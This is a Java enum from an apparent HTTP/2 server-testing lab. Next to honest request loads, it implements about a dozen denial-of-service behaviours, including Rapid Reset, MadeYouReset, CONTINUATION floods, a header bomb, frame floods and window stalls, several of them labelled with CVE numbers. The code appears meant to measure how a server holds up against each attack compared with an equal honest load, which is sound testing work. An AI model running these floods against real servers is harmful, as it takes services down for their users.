package dev.tandem.lab;

import dev.tandem.http.h2.ErrorCode;
import dev.tandem.http.h2.FrameWriter;
import dev.tandem.http.h2.Settings;
import java.util.Locale;

/// What clients of HTTP/2 do to a server: honest loads, and attacks with frames that are each
/// legal. The paths are those of a [Target].
public enum PeerBehaviour {
    /// Short responses, with all streams in use all the time.
    HONEST(true, "requests for /hello, as many at once as the server allows") {
        @Override
        void write(PeerConnection peer, int number) {
            peer.request("GET", "/hello", true);
        }
    },
    /// Content, with all streams in use all the time.
    HONEST_FILES(true, "requests for files of 100 KiB, as many at once as the server allows") {
        @Override
        void write(PeerConnection peer, int number) {
            peer.request("GET", PeerConnection.FILE, true);
        }
    },
    /// CVE-2023-44487.
    RAPID_RESET(false, "requests that are reset at once") {
        @Override
        void write(PeerConnection peer, int number) {
            int id = peer.request("GET", "/hello", true);
            FrameWriter.resetStream(peer.out(), id, ErrorCode.CANCEL);
        }
    },
    /// CVE-2025-8671.
    MADE_YOU_RESET(false, "errors for which the server resets streams") {
        @Override
        void write(PeerConnection peer, int number) {
            int id = peer.request("GET", "/hello", false);
            peer.frame(4, 8, id).putInt(0); // WINDOW_UPDATE of 0
        }
    },
    /// CVE-2024-27316.
    CONTINUATION(false, "header blocks that do not end") {
        @Override
        void write(PeerConnection peer, int number) {
            if (number == 0) {
                peer.frame(0, 1, 1);
            }
            peer.frame(1, 9, 1).put((byte) 0);
        }
    },
    /// CVE-2026-33871.
    CONTINUATION_EMPTY(false, "header blocks of empty frames that do not end") {
        @Override
        void write(PeerConnection peer, int number) {
            if (number == 0) {
                peer.frame(0, 1, 1);
            }
            peer.frame(0, 9, 1);
        }
    },
    /// CVE-2026-49975.
    HEADER_BOMB(false, "header lists of 1.9 MB in 1,000 bytes each, with closed windows") {
        @Override
        Settings settings() {
            return CLOSED;
        }

        @Override
        void write(PeerConnection peer, int number) {
            peer.request("GET", "/hello", true, BOMB);
        }
    },
    COOKIE_CRUMBS(false, "more cookie crumbs than a request may have") {
        @Override
        void write(PeerConnection peer, int number) {
            peer.request("GET", "/hello", true, CRUMBS);
        }
    },
    SETTINGS(false, "a flood of SETTINGS") {
        @Override
        void write(PeerConnection peer, int number) {
            FrameWriter.settings(peer.out(), Settings.CLIENT);
        }
    },
    PING(false, "a flood of PING") {
        @Override
        void write(PeerConnection peer, int number) {
            FrameWriter.ping(peer.out(), number, false);
        }
    },
    PRIORITY(false, "a flood of PRIORITY") {
        @Override
        void write(PeerConnection peer, int number) {
            peer.frame(5, 2, 1).putInt(3).put((byte) 7);
        }
    },
    DATA_EMPTY(false, "a flood of empty DATA") {
        @Override
        void write(PeerConnection peer, int number) {
            if (number == 0) {
                peer.request("POST", "/echo", false);
            }
            FrameWriter.data(peer.out(), 1, 0, false);
        }
    },
    WINDOW_DRIP(false, "windows that open by one byte") {
        @Override
        Settings settings() {
            return CLOSED;
        }

        @Override
        void write(PeerConnection peer, int number) {
            if (number < PeerConnection.STREAMS) {
                peer.request("GET", PeerConnection.FILE, true);
            }
            FrameWriter.windowUpdate(peer.out(), 1 + 2 * (number % PeerConnection.STREAMS), 1);
        }
    },
    HALF_OPEN(false, "thousands of requests whose bodies do not come") {
        @Override
        void write(PeerConnection peer, int number) {
            peer.request("POST", "/echo", false);
        }
    },
    WINDOW_STALL(false, "files of 100 KiB with closed windows") {
        @Override
        Settings settings() {
            return CLOSED;
        }

        @Override
        int frames() {
            return PeerConnection.STREAMS;
        }

        @Override
        void write(PeerConnection peer, int number) {
            peer.request("GET", PeerConnection.FILE, true);
        }
    };

    private static final Settings CLOSED = Settings.CLIENT.withInitialWindowSize(0);
    private static final String[] BOMB = fields(1_000, "x-bomb", "x".repeat(1_900));
    private static final String[] CRUMBS = fields(300, "cookie", "a=0123456789012345");

    private final boolean isHonest;
    private final String help;

    PeerBehaviour(boolean isHonest, String help) {
        this.isHonest = isHonest;
        this.help = help;
    }

    /// Returns the behaviour of this name.
    ///
    /// @param name in lower case, with dashes
    /// @throws IllegalArgumentException if there is none; names all
    public static PeerBehaviour named(String name) {
        for (PeerBehaviour behaviour : values()) {
            if (behaviour.label().equals(name)) {
                return behaviour;
            }
        }
        var names = new StringBuilder();
        for (PeerBehaviour behaviour : values()) {
            names.append(names.isEmpty() ? "" : ", ").append(behaviour.label());
        }
        throw new IllegalArgumentException("'" + name + "' is none of " + names);
    }

    /// Returns its name in lower case, with dashes.
    public String label() {
        return name().toLowerCase(Locale.ROOT).replace('_', '-');
    }

    /// Returns what it does, in a few words.
    public String help() {
        return help;
    }

    /// Whether each of its requests waits for its turn, and it reads everything.
    boolean isHonest() {
        return isHonest;
    }

    Settings settings() {
        return Settings.CLIENT.withInitialWindowSize(1 << 20);
    }

    /// Returns the honest load of the same size.
    PeerBehaviour comparedTo() {
        return this == WINDOW_DRIP || this == WINDOW_STALL ? HONEST_FILES : HONEST;
    }

    /// After how many calls of [#write] a connection only waits.
    int frames() {
        return Integer.MAX_VALUE;
    }

    /// Writes the next request or frame.
    ///
    /// @param number of the call, from 0 on each connection
    abstract void write(PeerConnection peer, int number);

    private static String[] fields(int count, String name, String value) {
        var fields = new String[2 * count];
        for (int i = 0; i < fields.length; i += 2) {
            fields[i] = name;
            fields[i + 1] = value;
        }
        return fields;
    }
}
